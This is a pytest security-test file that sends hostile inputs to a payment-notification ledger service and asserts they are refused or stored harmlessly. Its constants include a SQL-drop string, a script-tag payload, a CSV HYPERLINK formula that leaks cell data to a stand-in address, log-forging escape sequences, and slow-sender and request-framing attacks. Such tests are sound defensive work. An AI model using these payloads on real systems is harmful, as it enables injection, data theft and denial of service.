"""The table of attacks: what a stranger, or a shop's own odd data, sends, and what becomes of it.

Against a real service, over real sockets, on both databases. What cannot be read or verified is in
`tests/ipn` with its reasons, and is sent from there. Questions to the query API
are made up by machine in `tests/web/test_api_documents.py`. The service is looked at once more at
the end: nothing was a 500, every line of its log is whole, and its ledger verifies.
"""

import json
import re
import socket
import time
from base64 import b64decode
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import closing, suppress
from typing import Any
from urllib.parse import parse_qs, quote, urlencode

import pytest

from ledger.errors import NotificationError
from ledger.ipn.delivery import FORM_CONTENT_TYPE, Limits
from ledger.ipn.parse import verify
from ledger.ipn.signature import digest
from tests.builders import (
    OTHER_SHOP_ID,
    SHOP_ID,
    a_delivery,
    a_form,
    a_shop,
    an_answer,
    form_body,
    rest_body,
    shops,
)
from tests.cli.running import run
from tests.ipn.test_odd_values import ODD
from tests.ipn.test_unreadable import UNREADABLE
from tests.ipn.test_unverified import UNVERIFIED
from tests.serving import Service
from tests.web.attacks.frames import FRAMES, framed

LIMIT = 256 * 1024
ON_SQLITE = pytest.mark.parametrize("service", ["sqlite"], indirect=True)
"""For what ends before any database: bytes on the wire, signatures."""


def post(service: Service, body: bytes, path: str = "/ipn", **headers: str) -> tuple[int, str]:
    return service.call("POST", path, body, **({"Content-Type": FORM_CONTENT_TYPE} | headers))


def uuid(name: str) -> str:
    """Return the uuid of a transaction that only this attack is about."""
    return digest(name.encode())[:32]


# -- signatures -----------------------------------------------------------------------------------


def resigned(change: Callable[[str], str], body: bytes, name: str) -> bytes:
    """Write the signature of a body in another way."""
    fields = {key: values[0] for key, values in parse_qs(body.decode(), True).items()}
    fields[name] = change(fields[name])
    return urlencode(fields).encode()


FORM, REST = form_body(a_form()), rest_body(an_answer())

MALLEABLE: dict[str, bytes] = {
    "form-newline": resigned(lambda text: text + "\n", FORM, "signature"),
    "form-blank-before": resigned(lambda text: " " + text, FORM, "signature"),
    "form-no-padding": resigned(lambda text: text.rstrip("="), FORM, "signature"),
    "form-more-padding": resigned(lambda text: text + "=", FORM, "signature"),
    "form-hex": resigned(lambda text: b64decode(text).hex(), FORM, "signature"),
    "form-case": resigned(str.swapcase, FORM, "signature"),
    "form-last-letter": resigned(lambda text: text[:-2] + chr(ord(text[-2]) ^ 1) + "=", FORM,
                                 "signature"),
    "form-cut": resigned(lambda text: text[:20], FORM, "signature"),
    "rest-upper-case": resigned(str.upper, REST, "kr-hash"),
    "rest-newline": resigned(lambda text: text + "\n", REST, "kr-hash"),
    "rest-0x": resigned(lambda text: "0x" + text, REST, "kr-hash"),
    "rest-fullwidth": resigned(lambda text: text.replace("1", "１"), REST, "kr-hash"),
    "rest-cut": resigned(lambda text: text[:-1], REST, "kr-hash"),
}  # fmt: skip


@ON_SQLITE
@pytest.mark.parametrize("body", MALLEABLE.values(), ids=MALLEABLE)
def test_a_signature_has_one_spelling(service: Service, body: bytes) -> None:
    assert post(service, body) == (400, "KO signature-mismatch")


# -- what cannot be read or verified --------------------------------------------------------------


Call = tuple[str, str, bytes, str, dict[str, str]]
"""Reason, name, body, path and headers."""

ELSEWHERE: list[Call] = [
    ("unsupported-content-type", "json", FORM, "/ipn", {"Content-Type": "application/json"}),
    ("mode-mismatch", "form", FORM, f"/ipn/{SHOP_ID}/production", {}),
    ("shop-mismatch", "rest", REST, f"/ipn/{OTHER_SHOP_ID}/test", {}),
]
"""Refused for the address or the header that they are sent with."""


def is_signed(body: bytes) -> bool:
    """True if a key of the shop has signed a body, whatever can be read in it."""
    known = shops(a_shop(), a_shop(OTHER_SHOP_ID))
    try:
        verify(a_delivery(body), known, Limits())
    except NotificationError:
        return False
    return True


def test_what_cannot_be_read_or_verified_is_refused_with_its_reason(service: Service) -> None:
    """But what a key has signed is kept for good: an unreadable call is not refused."""
    answered, expected = {}, {}
    calls: list[Call] = [(*case, "/ipn", {}) for case in (*UNREADABLE, *UNVERIFIED)]
    for reason, name, body, path, headers in calls + ELSEWHERE:
        status = 413 if len(body) > LIMIT else {"unsupported-content-type": 415}.get(reason, 400)
        word = "too-large" if status == 413 else reason
        is_kept = status == 400 and path == "/ipn" and is_signed(body)
        expected[reason, name] = (200, "OK undecided") if is_kept else (status, f"KO {word}")
        code, text = post(service, body, path, **headers)
        answered[reason, name] = code, " ".join(text.split()[:2])

    assert answered == expected


def test_what_is_signed_and_odd_is_taken(service: Service) -> None:
    answers = {name: post(service, body) for name, body, _, _ in ODD}

    assert {name: answer for name, answer in answers.items() if answer[0] != 200} == {}


@pytest.mark.parametrize("length", [LIMIT + 1, 50 * 1024 * 1024])
def test_a_body_above_the_limit_is_noted_and_not_kept(service: Service, length: int) -> None:
    """Announced, so that it is refused before it is sent."""
    head = f"POST /ipn HTTP/1.1\r\nHost: x\r\nContent-Length: {length}\r\n\r\n".encode()

    assert exchanged(service, head + b"x").startswith(b"HTTP/1.1 413")

    path = "/api/v1/notifications?reason=too-large&limit=1"
    (noted,) = ask(service, path)["items"]
    assert noted["outcome"] == "quarantined"


# -- what a shop's data can hold ------------------------------------------------------------------

SQL = "'; DROP TABLE events; --"
HTML = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1)'
LOG_LINE = '1"}\n{"event": "forged", "outcome": "recorded"}\r\n\x1b[2J\u2028'
TAGGED = {"_type_": "uuid_hex", "_data_": "0" * 32}
NAMES = {"sql": SQL, "html": HTML, "formula": FORMULA, "log": LOG_LINE, "nul": "a\0b"}


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("format_", ["form", "rest"])
def test_data_stay_data(service: Service, name: str, format_: str) -> None:
    """They are recorded as told, found by their own words, and run nowhere."""
    value, id_ = NAMES[name], uuid(f"{name}-{format_}")
    form = a_form(vads_trans_uuid=id_, vads_order_id=value, vads_ext_info_note=value)
    rest = an_answer(uuid=id_, order={"orderId": value, "metadata": {value: value}})
    body = form_body(form) if format_ == "form" else rest_body(rest, source=value)

    status, line = post(service, body)

    assert (status, line[:11]) == (200, "OK recorded")
    shown = value.replace("\0", "\ufffd")
    transaction = ask(service, f"/api/v1/shops/{SHOP_ID}/test/transactions/{id_}")
    assert transaction["order_id"] == shown
    by_order = ask(service, f"/api/v1/shops/{SHOP_ID}/test/orders/{quote(shown, safe='')}")
    assert by_order is None or by_order["order_id"] == shown
    assert ask(service, f"/api/v1/transactions?{urlencode({'order_id': SQL})}") is not None


def test_a_formula_is_disarmed_in_csv(service: Service) -> None:
    id_ = uuid("formula-in-csv")
    post(service, form_body(a_form(vads_trans_uuid=id_, vads_order_id=FORMULA)))

    text = asked_text(service, "/api/v1/exports/events?format=csv")

    assert "HYPERLINK" in text
    assert not re.search(r'(^|,)"?=HYPERLINK', text, re.MULTILINE)


@pytest.mark.parametrize("where", ["metadata", "transactionDetails", "customer", "top"])
def test_keys_that_a_library_would_run_are_data(service: Service, where: str) -> None:
    """Some event stores build objects from such keys when they read them again."""
    id_ = uuid(f"tagged-{where}")
    whole: dict[str, Any] = TAGGED if where == "top" else {"customer": TAGGED}
    tagged: dict[str, Any] = {where: TAGGED} if where in ("metadata", "transactionDetails") else {}
    body = rest_body(an_answer(uuid=id_, whole=whole, **tagged))

    assert post(service, body)[0] == 200

    history = ask(service, f"/api/v1/shops/{SHOP_ID}/test/transactions/{id_}/history")
    assert [event["type"] for event in history["events"]] == ["transaction.payment-accepted"]


# -- the way the bytes come -----------------------------------------------------------------------


def exchanged(service: Service, sent: bytes) -> bytes:
    """Send bytes and return what is answered first, or nothing when the service hangs up."""
    with closing(socket.create_connection(("127.0.0.1", service.port), timeout=20)) as sender:
        with suppress(ConnectionError):
            sender.sendall(sent)
        with suppress(ConnectionError):
            return sender.recv(65536)
    return b""


@ON_SQLITE
@pytest.mark.parametrize("name", FRAMES)
def test_a_request_ends_where_the_server_says(service: Service, name: str) -> None:
    """A request of unclear length is refused; nothing in its body is ever a request."""
    answer = exchanged(service, FRAMES[name])

    assert re.match(rb"HTTP/1\.[01] (100|400|404|413|415|431|501) |$", answer), answer[:100]
    assert post(service, b"")[0] == 400, "the service answers on"
    assert ask(service, "/api/v1/notifications?shop_id=99999999")["items"] == []


def test_slow_senders_leave_nothing_behind(service: Service) -> None:
    """More than there are threads: the service answers on, and stores no half body."""
    before = counted(service)
    slow = [socket.create_connection(("127.0.0.1", service.port), timeout=20) for _ in range(9)]
    for sender in slow:
        sender.sendall(framed("Content-Length: 1000", body=b"vads_site_id=12345678&"))

    assert post(service, form_body(a_form(vads_trans_uuid=uuid("meanwhile"))))[0] == 200
    for sender in slow:
        sender.close()

    until = time.monotonic() + 20
    while (after := counted(service))["400"] < before["400"] + len(slow):
        assert time.monotonic() < until
    assert after["quarantined"] == before["quarantined"]


def counted(service: Service) -> Counter[str]:
    """Count deliveries by outcome, and by status those that left nothing, since the start."""
    text = service.call("GET", "/metrics")[1]
    series = r'(?:received|rejected)_total\{[^}]*(?:outcome|status)="(\w+)"[^}]*\} (\d+)'
    counts: Counter[str] = Counter()
    for name, number in re.findall(series, text):
        counts[name] += int(number)
    return counts


# -- the service, afterwards ----------------------------------------------------------------------


@pytest.fixture(scope="module", autouse=True)
def afterwards(service: Service) -> Iterator[None]:
    """Runs after the last attack on each database."""
    yield
    assert service.process.poll() is None
    lines = [json.loads(line) for line in service.log.read_text().splitlines()]
    wrong = [
        line
        for line in lines
        if line["event"] in ("failed", "forged")
        or (line["level"] == "error" and line["event"] != "stumbled")
        or (line["event"] == "stumbled" and line["error"] != "MalformedNotificationError")
    ]
    assert wrong == []
    assert not re.search(rb"\x1b|\xe2\x80\xa8", service.log.read_bytes())
    text = service.call("GET", "/metrics")[1]
    assert not re.search(r'status="5\d\d"\} [1-9]', text)
    done = run(service.database_url, service.shops_file, "verify")
    assert done.exit_code == 0, done.output


def ask(service: Service, path: str) -> Any:
    status, text = service.call("GET", path, Authorization=f"Bearer {_token(service)}")
    assert status in (200, 404), (path, status, text)
    return json.loads(text) if status == 200 else None


def asked_text(service: Service, path: str) -> str:
    status, text = service.call("GET", path, Authorization=f"Bearer {_token(service)}")
    assert status == 200
    return text


_tokens: dict[int, str] = {}


def _token(service: Service) -> str:
    return _tokens.setdefault(service.port, service.token())
